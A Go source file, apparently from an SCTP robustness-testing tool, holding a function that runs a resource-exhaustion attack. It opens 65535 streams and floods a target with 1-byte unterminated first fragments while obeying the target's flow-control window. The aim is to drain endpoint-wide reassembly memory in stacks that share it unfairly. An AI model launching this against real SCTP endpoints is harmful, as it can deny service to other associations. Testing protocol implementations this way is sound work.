package main

import (
	"context"
	"time"

	"github.com/usctp/usctp/sctp/chunk"
)

// flowFrags keeps to the flow control while it attacks: it sends 1-byte
// ordered first fragments (B bit, no E bit) spread over 65535 streams, but
// no more than the target's last a_rwnd less what is in flight (RFC 9260
// section 6.1 rule B), and goes on as its SACKs open the window. A stack
// that bounds each association by its window gives it nothing an honest
// peer would not get; one that shares an endpoint-wide resource unfairly
// lets it take that resource from every other association.
func flowFrags(ctx context.Context, p *peer, pace func() bool) error {
	if err := p.handshake(65535); err != nil {
		return err
	}
	defer p.abort()
	one := []byte{1}
	first := p.tsn
	streams := uint32(p.streams)
	// The chunk of TSN t: its stream and SSN follow from its place.
	appendTSN := func(b []byte, t chunk.TSN) []byte {
		i := uint32(t - first)
		d := chunk.Data{Flags: chunk.FlagBeginning, TSN: t, SID: uint16(i % streams), SSN: uint16(i / streams), PPID: 1, Payload: one}
		b, _ = d.Append(b)
		return b
	}
	cum := first - 1
	rwnd := 1 << 16 // until the first SACK
	lastSack := time.Now()
	avail := func() int { return rwnd - int(p.tsn-cum-1) } // 1 byte a chunk
	for pace() {
		for {
			pkt := p.recv(time.Microsecond)
			if pkt == nil {
				break
			}
			if _, ok := find(pkt, chunk.TypeAbort); ok {
				p.peerTag = 0
				return nil // the target gave up on us: that is its right
			}
			if c, ok := find(pkt, chunk.TypeSack); ok {
				if s, err := chunk.ParseSack(c); err == nil && !s.CumTSN.LT(cum) {
					cum, rwnd, lastSack = s.CumTSN, int(s.ARwnd), time.Now()
				}
			}
		}
		b := p.header(p.peerTag)
		switch {
		case avail() >= 1:
			for len(b)+chunk.DataHeaderLen+4 <= room && avail() >= 1 {
				b = appendTSN(b, p.tsn)
				p.tsn++
			}
		case time.Since(lastSack) > 200*time.Millisecond:
			// A closed window, or a chunk lost: send the oldest chunk not
			// acknowledged again (a zero window probe, rule A).
			b = appendTSN(b, cum+1)
			if cum+1 == p.tsn {
				p.tsn++ // nothing was in flight: a new chunk
			}
			lastSack = time.Now()
		default:
			time.Sleep(time.Millisecond)
			continue
		}
		if err := p.send(b); err != nil {
			return err
		}
	}
	return nil
}
